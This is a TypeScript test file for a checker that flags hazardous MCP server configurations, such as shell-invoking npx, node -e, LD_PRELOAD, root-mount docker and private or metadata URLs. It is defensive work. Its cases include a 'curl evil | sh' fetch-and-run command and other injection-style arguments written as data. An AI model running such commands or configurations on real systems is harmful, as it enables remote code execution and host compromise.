import { expect, test } from "vitest";
import { hazardsOf } from "./hazards";
import type { StdioServer } from "./types";

function stdio(command: string, args: string[] = [], more: Partial<StdioServer> = {}): StdioServer {
  return { kind: "stdio", name: "s", command, args, env: {}, ...more };
}

test.each([
  ["npx -c", stdio("npx", ["-c", "curl evil | sh"]), "npx -c runs a shell command"],
  ["npx --call=", stdio("npx", ["-y", "--call=id"]), "npx -c runs a shell command"],
  ["npx with an absolute path", stdio("/usr/bin/npx", ["-y", "-c", "id"]), "npx -c runs a shell command"],
  ["npx.cmd", stdio("NPX.CMD", ["-c", "id"]), "npx -c runs a shell command"],
  ["npm exec", stdio("npm", ["exec", "--", "x"]), "it starts its package with npm"],
  ["bunx", stdio("bunx", ["x"]), "it starts its package with bunx"],
  ["an unpinned package", stdio("npx", ["-y", "pkg"]), "has no exact version"],
  ["a range", stdio("npx", ["-y", "pkg@^1.0.0"]), "has no exact version"],
  ["a pinned package", stdio("npx", ["-y", "@a/b@1.2.3"]), "is its publisher's code"],
  ["node -e", stdio("node", ["-e", "1"]), "runs code from its arguments"],
  ["node --eval=", stdio("node", ["--eval=1"]), "runs code from its arguments"],
  ["node -p", stdio("node", ["-p", "1"]), "runs code from its arguments"],
  ["node -r", stdio("node", ["-r", "./x", "server.js"]), "runs code from its arguments"],
  ["node --import=", stdio("node", ["--import=data:text/javascript,1"]), "runs code from its arguments"],
  ["node -", stdio("node", ["-"]), "runs code from its arguments"],
  ["python -c", stdio("python3.11", ["-Ic", "1"]), "python3.11 -c runs any text"],
  ["perl -e", stdio("perl", ["-e", "1"]), "runs code from its arguments"],
  ["a shell with -c", stdio("/bin/bash", ["-lc", "id"]), "bash -c runs any text"],
  ["a shell", stdio("sh", ["x.sh"]), "sh is a shell"],
  ["cmd /c", stdio("cmd.exe", ["/c", "dir"]), "cmd -c runs any text"],
  ["env", stdio("env", ["A=1", "bash", "-c", "id"]), "bash -c runs any text"],
  ["env with NODE_OPTIONS", stdio("env", ["NODE_OPTIONS=-r x", "node", "a"]), "can make the program load other code"],
  ["docker", stdio("docker", ["run", "-v", "/:/host", "x"]), "docker starts containers"],
  ["NODE_OPTIONS", stdio("node", ["a"], { env: { NODE_OPTIONS: { secret: "x" } } }), "The variable NODE_OPTIONS"],
  ["LD_PRELOAD", stdio("x", [], { env: { LD_PRELOAD: "y" } }), "The variable LD_PRELOAD"],
  ["the disk", stdio("x", ["/"]), "It can access the folder /."],
  ["uvx", stdio("uvx", ["x"]), "uvx downloads Python packages"],
  ["a file", stdio("/home/me/server"), "whose content is not pinned"],
  ["a wide network", stdio("x", [], { hosts: ["*.example.com"] }), "every host below a domain"],
] as const)("%s is a hazard", (_what, config, sentence) => {
  expect(hazardsOf(config).join("\n")).toContain(sentence);
});

test.each([
  ["http://mcp.example.com/", "without TLS"],
  ["https://127.0.0.1:8080/", "private network"],
  ["https://localhost/", "private network"],
  ["https://[::ffff:10.0.0.1]/", "private network"],
  ["https://printer/", "private network"],
  ["https://db.internal/", "private network"],
  ["https://169.254.169.254/", "private network"],
])("%s is a hazard", (url, sentence) => {
  expect(hazardsOf({ kind: "http", name: "s", url, headers: {} }).join("\n")).toContain(sentence);
});

test("an installed package with plain arguments and a public address have no hazards", () => {
  const pinned = { name: "p", version: "1.0.0", integrity: "sha512-x", lockHash: "x", bin: "a.js" };
  expect(hazardsOf(stdio("node", ["/srv/data", "--verbose"], { package: pinned }))).toEqual([]);
  expect(hazardsOf({ kind: "http", name: "s", url: "https://mcp.example.com/mcp", headers: {} })).toEqual([]);
});
